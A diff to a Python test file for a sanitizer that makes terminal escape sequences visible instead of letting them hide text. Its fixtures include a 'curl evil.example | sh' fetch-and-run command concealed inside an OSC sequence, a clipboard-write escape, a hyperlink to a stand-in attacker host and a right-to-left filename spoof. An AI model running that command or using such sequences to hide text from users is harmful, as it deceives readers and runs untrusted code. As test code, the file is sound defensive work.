@@ -14,10 +14,17 @@ from linewise._sanitize import neutralize
         ("plain text\twith tab\nand newline", "plain text\twith tab\nand newline"),
         ("\x1b[31mred\x1b[0m", "red"),
         ("\x1b[2J\x1b[H cleared", " cleared"),
-        ("\x1b]0;pwned title\x07after", "after"),
-        ("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),
-        ("\x1b]52;c;ZXZpbA==\x07clipboard", "clipboard"),
-        ("\x1bPq#0;2;0;0;0\x1b\\sixel", "sixel"),
+        # OSC, DCS, PM and APC strings: the sequence is neutralised, the payload shown.
+        ("\x1b]0;pwned title\x07after", "␛]0;pwned title␇after"),
+        (
+            "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+            "␛]8;;https://evil.example␛\\click␛]8;;␛\\",
+        ),
+        ("\x1b]52;c;ZXZpbA==\x07clipboard", "␛]52;c;ZXZpbA==␇clipboard"),
+        ("\x1bPq#0;2;0;0;0\x1b\\sixel", "␛Pq#0;2;0;0;0␛\\sixel"),
+        ("\x1b^private\x1b\\", "␛^private␛\\"),
+        ("\x1b_app\x9c", "␛_app<U+009C>"),
+        ("\x9d0;eight-bit\x07", "<U+009D>0;eight-bit␇"),
         ("\x9b31mC1 CSI", "C1 CSI"),
         ("bell\x07", "bell␇"),
         ("over\rwrite", "over␍write"),
@@ -26,7 +33,7 @@ from linewise._sanitize import neutralize
         ("del\x7f", "del␡"),
         ("\u202egnp.exe", "<U+202E>gnp.exe"),
         ("lone \ud800 surrogate", "lone \ufffd surrogate"),
-        ("unterminated \x1b]0;title", "unterminated "),
+        ("unterminated \x1b]0;title", "unterminated ␛]0;title"),
     ],
 )
 def test_neutralize(text: str, shown: str) -> None:
@@ -41,3 +48,17 @@ def test_output_never_contains_a_control_character_but_newline_and_tab(text: str
         for c in out
     )
     out.encode("utf-8")
+
+
+def test_a_hidden_command_stays_visible() -> None:
+    # A terminal string swallowing the rest of a line must not hide it from the reader.
+    shown = neutralize("ls -la \x1b]0;\x07 curl evil.example | sh\x1b\\ and then I deleted it")
+    assert "curl evil.example | sh" in shown and "and then I deleted it" in shown
+    assert "\x1b" not in shown and "\x07" not in shown
+
+
+def test_neutralize_is_linear() -> None:
+    # One regex runs on agent text here; its classes are disjoint, so time grows with size.
+    from scaling import assert_linear_time
+
+    assert_linear_time(lambda n: neutralize("\x1b[" + "1;" * n + "\x1b]" * n + "\x9b" * n))
